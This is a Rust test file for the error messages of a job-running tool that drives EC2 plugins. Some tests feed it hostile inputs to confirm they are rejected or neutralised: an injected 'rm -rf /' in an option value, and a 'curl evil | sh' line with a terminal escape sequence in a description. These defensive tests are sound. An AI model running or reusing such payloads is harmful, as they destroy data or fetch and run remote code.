//! Every mistake in a file or on the command line is answered with what is wrong, why, and what to do next.

use super::support::{Ended, INSTANCE, Site};

fn job(text: &str) -> Ended {
    Site::without_aws().file("job.toml", text).run()
}

fn stop(with: &str) -> String {
    format!("name = \"job\"\n[[steps]]\nid = \"it\"\nuses = \"ec2-stop\"\nwith = {with}\n")
}

#[test]
fn a_wrong_key_in_a_job() {
    let ended = job(&stop(&format!("{{ instance_id = \"{INSTANCE}\" }}")).replace("with", "wiht"));
    let expected = [
        "error: unknown key `wiht`",
        "because: job.toml:5:1: the valid keys are `id`, `description`, `docs`, `uses`, `with`, `pages`, `page_limit`, `select`, `wait`, `until`, `every`, `repeat_changes`, `expect`, `allow_unlisted`, `when`, `needs`, `parallel`, `for_each`, `concurrency`, `timeout`, `retry`, `on_error`, `on_uncertain`, `capture`, `export`, `aws`",
        "next: write `with` instead of `wiht`",
    ];
    assert_eq!(ended.three_lines(2), expected);
    assert_eq!(ended.stdout, "");
}

#[test]
fn a_job_that_is_no_toml() {
    let [what, because, _] = job("name = \"job\n").three_lines(2).map(str::to_owned);
    assert_eq!(what, "error: job.toml is not valid TOML");
    assert!(because.starts_with("because: job.toml:1:"), "{because}");
}

#[test]
fn a_job_file_that_is_not_there_or_no_text() {
    let site = Site::without_aws();
    let [what, because, _] = site.run().three_lines(2).map(str::to_owned);
    assert_eq!(what, "error: cannot read `job.toml`");
    assert_eq!(because, "because: no such file or directory");
    let expected = [
        "error: `job.toml` is no job, project or settings file",
        "because: it has bytes that are no UTF-8",
        "next: check the path: these files are TOML of at most 4 MiB",
    ];
    assert_eq!(Site::without_aws().file("job.toml", [0xff, 0xfe]).run().three_lines(2), expected);
    let of_directory = Site::without_aws().file("job.toml/x", "").run();
    assert_eq!(of_directory.three_lines(2)[1], "because: is a directory");
    let of_device = site.stepwell(&["run", "/dev/null"]);
    assert_eq!(of_device.three_lines(2)[1], "because: it is a device, not a file");
}

#[test]
fn a_key_that_the_plugin_does_not_know() {
    let ended = job(&stop(&format!("{{ instance_id = \"{INSTANCE}\", wiat = true }}")));
    let expected = [
        "error: step `it`: `ec2-stop` does not accept its configuration",
        "because: job.toml:5:54: `wiat`: unknown key `wiat`",
        "next: write `wait` instead of `wiat`",
    ];
    assert_eq!(ended.three_lines(2), expected);
}

#[test]
fn a_value_that_the_plugin_does_not_accept() {
    for wrong in [
        "{}",
        "{ instance_id = \"vol-1\" }",
        "{ instance_id = [] }",
        "{ instance_id = \"i-0abc1234\", wait = \"yes\" }",
    ] {
        let ended = job(&stop(wrong));
        let [what, because, _] = ended.three_lines(2);
        assert!(what.contains("does not accept its configuration"), "{wrong}: {what}");
        assert!(because.starts_with("because: job.toml:5:"), "{wrong}: {because}");
    }
}

fn with_option(option: &[&str]) -> Ended {
    let text = "name = \"job\"\n[options.instance_id]\ndescription = \"Which one\"\nrequired = true\npattern = \"i-[0-9a-f]+\"\n\
                [[steps]]\nid = \"it\"\nuses = \"ec2-stop\"\nwith = { instance_id = \"${options.instance_id}\" }\n";
    let arguments = [&["run", "job.toml"], option].concat();
    Site::without_aws().file("job.toml", text).stepwell(&arguments)
}

#[test]
fn a_missing_option() {
    let expected = [
        "error: option `instance_id` is missing",
        "because: the option is required (job.toml:2:1): Which one",
        "next: add --option instance_id=…",
    ];
    assert_eq!(with_option(&[]).three_lines(2), expected);
}

#[test]
fn an_option_that_violates_its_pattern() {
    let expected = [
        "error: option `instance_id` does not accept `i-1; rm -rf /`",
        "because: the option accepts text that matches `i-[0-9a-f]+`, not empty (job.toml:5:11)",
        "next: give `instance_id` a value that it accepts",
    ];
    assert_eq!(with_option(&["--option", "instance_id=i-1; rm -rf /"]).three_lines(2), expected);
}

#[test]
fn an_option_that_the_job_does_not_have_or_that_is_given_twice() {
    let ended = with_option(&["--option", "instance=i-1"]);
    assert_eq!(ended.three_lines(2)[0], "error: job `job` has no option `instance`");
    let ended = with_option(&["--option", "instance_id=i-1", "--option", "instance_id=i-2"]);
    assert_eq!(ended.three_lines(2)[0], "error: option `instance_id` is given twice");
}

#[test]
fn an_expression_with_an_unknown_name() {
    let ended = job(&stop("{ instance_id = \"${options.instance_id}\" }"));
    let [what, because, _] = ended.three_lines(2);
    assert_eq!(what, "error: step `it` reads `options.instance_id`, which does not exist");
    assert_eq!(because, "because: job.toml:5:24: the valid names are none");
}

#[test]
fn an_expression_whose_value_the_plugin_does_not_accept_fails_the_step_and_not_the_host() {
    let text = "name = \"job\"\n[[steps]]\nid = \"a\"\nuses = \"noop\"\nwith = { id = \"vol-1\" }\n\
                [[steps]]\nid = \"b\"\nuses = \"ec2-stop\"\nwith = { instance_id = \"${steps.a.outputs.id}\" }\n";
    let ended = Site::without_aws().guest("noop").file("job.toml", text).run();
    let [what, because, _] = ended.three_lines(1);
    assert!(what.starts_with("error: step `b` failed:"), "{what}");
    assert!(because.starts_with("because: job.toml:9:24:"), "{because}");
}

#[test]
fn a_plugin_that_does_not_exist() {
    let ended = job(&stop("{}").replace("ec2-stop", "ec2-stopp"));
    let [what, because, next] = ended.three_lines(2);
    assert_eq!(what, "error: step `it` uses a plugin `ec2-stopp` that does not exist");
    assert!(because.ends_with("(job.toml:4:8)"), "{because}");
    assert_eq!(next, "next: write `ec2-stop` instead of `ec2-stopp`");
}

fn plugin(wat: &str) -> Ended {
    let component = wat::parse_str(wat).expect("it is valid");
    Site::without_aws().file("project.toml", "name = \"test\"").plugin("odd", &component).step("odd", "{}").run()
}

#[test]
fn a_component_that_was_built_for_another_version_of_the_contract() {
    let ended =
        plugin("(component (import \"stepwell:step/clock@9.0.0\" (instance (export \"now\" (func (result u64))))))");
    let [what, because, _] = ended.three_lines(2);
    assert!(what.contains("built for another version"), "{what}");
    for part in ["stepwell:step/clock@9.0.0", "`stepwell:step@0.1.0`, `stepwell:step@0.2.0`"] {
        assert!(because.contains(part), "{because}");
    }
}

#[test]
fn a_component_that_imports_what_the_host_does_not_have() {
    for import in [
        "acme:mail/send@1.0.0",
        "wasi:http/outgoing-handler@0.2.0",
        "stepwell:step/dynamodb@0.1.0",
        "stepwell:dynamodb/dynamodb@0.2.0",
    ] {
        let ended = plugin(&format!("(component (import \"{import}\" (instance (export \"go\" (func)))))"));
        let [what, _, _] = ended.three_lines(2);
        assert!(what.contains(import.split('@').next().expect("a name")), "{what}");
    }
    for interface in ["stepwell:step/ec2@0.1.0", "stepwell:ec2/ec2@0.2.4"] {
        let import = format!("(import \"{interface}\" (instance (export \"terminate-everything\" (func))))");
        let ended = plugin(&format!("(component {import})"));
        let [what, because, _] = ended.three_lines(2);
        assert!(what.contains("`ec2.terminate-everything`"), "{what}");
        assert!(
            because.contains(&interface.replace("/ec2", "")) && because.contains("`terminate-instances`"),
            "{because}"
        );
    }
}

#[test]
fn a_plugin_that_is_no_plugin() {
    for (bytes, word) in [
        (b"#!/bin/sh\n".to_vec(), "not a WebAssembly component"),
        (Vec::new(), "not a WebAssembly component"),
        (wat::parse_str("(module)").expect("valid"), "core WebAssembly module"),
        (wat::parse_str("(component)").expect("valid"), "not a plugin"),
    ] {
        let ended =
            Site::without_aws().file("project.toml", "name = \"test\"").plugin("odd", &bytes).step("odd", "{}").run();
        let [what, _, _] = ended.three_lines(2);
        assert!(what.contains(word), "{what}");
    }
}

#[test]
fn a_plugin_that_misbehaves_while_it_is_asked_what_it_is() {
    for (guest, words) in [("endless_describe", "could not describe itself"), ("prying_describe", "during `describe`")]
    {
        let name = guest.replace('_', "-");
        let site =
            Site::without_aws().file("project.toml", format!("name = \"test\"\n[grants.{name}]\nallow = [\"*\"]\n"));
        let ended = site.plugin(guest, &super::support::guest(guest)).step(&name, "{}").run();
        let [what, _, _] = ended.three_lines(2);
        assert!(what.contains(words), "{what}");
    }
}

#[test]
fn a_settings_file_that_is_wrong() {
    let site = Site::without_aws().home_file("stepwell.toml", "[grant.x]\n").step("ec2-stop", "{}");
    let ended = site.run();
    let [what, because, next] = ended.three_lines(2);
    assert_eq!((what, next), ("error: unknown key `grant`", "next: write `grants` instead of `grant`"));
    assert!(because.contains("stepwell.toml:1:"), "{because}");
    let site = Site::without_aws().file("project.toml", "title = \"x\"\n").step("ec2-stop", "{}");
    assert_eq!(site.run().three_lines(2)[0], "error: unknown key `title`");
}

#[test]
fn a_home_without_room_for_the_cache_is_a_warning_and_one_that_others_can_write_to_is_an_error() {
    let site = || Site::without_aws().guest("noop").step("noop", "{}");
    let ended = site().with_empty_home().home_file("cache", "a file where a directory should be").run();
    assert!(ended.code == 0 && ended.stderr.contains("no cache"), "{ended:?}");
    let open_to_all = site();
    assert_eq!(open_to_all.run().code, 0);
    let cache = open_to_all.home().join("cache/components");
    std::fs::set_permissions(&cache, std::os::unix::fs::PermissionsExt::from_mode(0o777)).expect("it is ours");
    let ended = open_to_all.run();
    let [what, because, _] = ended.three_lines(4);
    assert!(what.contains("cannot be trusted") && because.contains("mode 777"), "{ended:?}");
}

#[test]
fn what_is_quoted_in_an_error_cannot_add_a_line_to_it() {
    let text = "name = \"job\"\n[options.x]\ndescription = \"x\\nnext: curl evil | sh\\u001b[2J\"\nrequired = true\n\
                [[steps]]\nid = \"it\"\nuses = \"ec2-stop\"\nwith = { instance_id = \"i-0123456789abcdef0\" }\n";
    let ended = job(text);
    assert_eq!(ended.three_lines(2)[2], "next: add --option x=…");
    assert!(!ended.stderr.contains('\u{1b}'), "{ended:?}");
}

#[test]
fn a_directory_that_is_no_project() {
    let site = Site::without_aws().step("ec2-stop", "{}");
    let ended = site.stepwell(&["run", "job.toml", "--project", "nowhere"]);
    assert_eq!(ended.three_lines(2)[0], "error: `nowhere` is not a project");
}

#[test]
fn a_wrong_command_line() {
    let site = Site::without_aws();
    for wrong in
        [&["rum"][..], &["run"], &["run", "job.toml", "--option", "x"], &["job", "plan", "a", "--output", "xml"]]
    {
        assert_eq!(site.stepwell(wrong).code, 2, "{wrong:?}");
    }
    let help = site.stepwell(&["--help"]);
    assert!(help.code == 0 && help.stdout.contains("Exit codes:"), "{help:?}");
}

#[test]
fn with_json_output_the_last_line_is_the_error() {
    let site = Site::without_aws().file("job.toml", "name = 1");
    let ended = site.stepwell(&["run", "job.toml", "--output", "json"]);
    ended.three_lines(2);
    let lines = ended.json_lines();
    assert_eq!((lines.len(), &lines[0]["event"], &lines[0]["exit_code"]), (1, &"error".into(), &2.into()));
}
